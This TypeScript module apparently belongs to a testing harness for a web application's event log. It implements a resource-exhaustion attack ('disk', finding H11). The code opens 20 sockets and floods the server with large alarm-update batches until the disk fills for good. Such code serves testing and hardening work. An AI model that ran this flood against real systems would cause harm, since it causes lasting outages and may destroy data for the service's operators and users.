/** Events of the largest size, as fast as they are accepted: the log keeps each forever (H11). */
import type { Attack } from '../attack.js';
import { pause } from '../attacker.js';
import { sendBatch } from '../commands-at-once.js';
import { LARGE, makePage } from '../holdings.js';

const SOCKETS = 20;
const BATCH = 100;

export const disk: Attack = {
  name: 'disk',
  found: 'H11: 10 to 15 MB a second, until the disk is full for good',
  run: async (attacker) => {
    const sockets = await attacker.sockets(SOCKETS);
    const page_id = (await makePage(attacker)) ?? 'none';
    const { body } = await attacker.http('POST', `/pages/${page_id}/alarms`, { body: LARGE });
    const alarm_id = /"id":"([^"]+)"/.exec(body)?.[1] ?? 'none';
    await attacker.over(SOCKETS, async (lane) => {
      const socket = sockets[lane];
      if (!socket?.isOpen)
        return void ((sockets[lane] = (await attacker.socket())!), sockets[lane] ?? (await pause(100)));
      await sendBatch(
        socket,
        Array.from({ length: BATCH }, () => ({ type: 'update_alarm', payload: { alarm_id, ...LARGE } })),
      );
    });
  },
};
